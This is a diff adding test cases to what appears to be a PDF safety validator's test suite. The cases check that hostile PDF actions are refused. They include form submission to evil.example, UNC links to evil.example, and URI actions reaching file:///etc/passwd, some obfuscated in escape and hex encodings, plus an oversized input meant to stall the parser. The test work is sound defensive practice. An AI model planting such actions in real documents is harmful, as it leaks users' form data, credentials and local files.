@@ -26,6 +26,20 @@ describe('a PDF that acts', () => {
     ['an attached file without its type', '<< /Type /Filespec /EF << /F 9 0 R >> >>'],
     ['a list of attached files', '<< /Names << /EmbeddedFiles 5 0 R >> >>'],
     ['a film with a script', '<< /Subtype /RichMedia >>'],
+    ['a film', '<< /Subtype /Movie /Movie << /F (a.avi) >> >>'],
+    ['a page of an attached file', '<< /OpenAction << /S /GoToE /T << /R /C >> >> >>'],
+    ['a page of another file', '<< /S /GoToR /F (\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>'],
+    ['an article of another file', '<< /S /Thread /F (\\\\evil.example\\\\a.pdf) /D 0 >>'],
+    ['a form to send', '<< /AA << /O << /S /SubmitForm /F (https://evil.example) >> >> >>'],
+    ['a form to fetch', '<< /S /ImportData /F (a.fdf) >>'],
+    ['a form in XML', '<< /AcroForm << /XFA [(preamble) 9 0 R] >> >>'],
+    ['a form in XML by reference', '<< /AcroForm << /Fields [] /XFA 9 0 R >> >>'],
+    ['a file of the reader', '<< /S /URI /URI (file:///etc/passwd) >>'],
+    ['a file of the reader in codes', '<< /S /URI /U#52I (\\146I\\\nle:) >>'],
+    ['a file of the reader in hex', '<< /S /URI /URI <FEFF0066 0049006C0065003a> >>'],
+    ['a machine of the reader’s network', '<< /S /URI /URI (\\\\\\\\evil.example\\\\a) >>'],
+    ['a file to begin all links', '<< /URI << /Base (file://evil.example/) >> >>'],
+    ['an address that stands elsewhere', '<< /S /URI /URI 12 0 R >>'],
     ['a script behind a false stream', `% stream\n${script}\n% endstream`],
   ])('%s is refused, plain and packed', async (_name, objects) => {
     expect(await refusalOf(makePdfOf(objects))).toBe('isActivePdf')
@@ -61,6 +75,7 @@ describe('a PDF that acts', () => {
     ['beginnings of scripts without end', () => '>/JS%'.repeat(1_000_000)],
     ['beginnings with space between', () => `>/JS${' '.repeat(60)}`.repeat(80_000)],
     ['beginnings of numbers without end', () => `${'/First%'.repeat(700_000)}stream\n`],
+    ['beginnings of links without end', () => '/URI('.repeat(2_000_000)],
     ['halves of references', () => '>/EF 1234567890 12345 '.repeat(250_000)],
   ])('%s does not hold up everyone else', async (_name, objects) => {
     const bytes = makePdfOf(objects())
@@ -77,6 +92,10 @@ describe('a PDF that acts', () => {
 
   it.each([
     ['links', '<< /S /URI /URI (https://example.com/a) >>'],
+    ['a link to write to', '<< /S /URI /URI (mailto:care@banksia.example) /IsMap false >>'],
+    ['a link in hex', '<< /A << /S /URI /URI <68747470733A2F2F6578616D706C652E636F6D> >> >>'],
+    ['a form of its own', '<< /AcroForm << /Fields [5 0 R] >> >>'],
+    ['articles and pages of its own', '<< /Threads [4 0 R] /S /GoTo /D [0 /Fit] >>'],
     ['a first page to show', '<< /OpenAction [3 0 R /Fit] >>'],
     ['an outline', '<< /Type /Outlines /First 3 0 R /Last 9 0 R /Count 2 >>'],
     ['names that only begin alike', '<< /JSX (a) /Launches 1 /EFG << >> >>'],
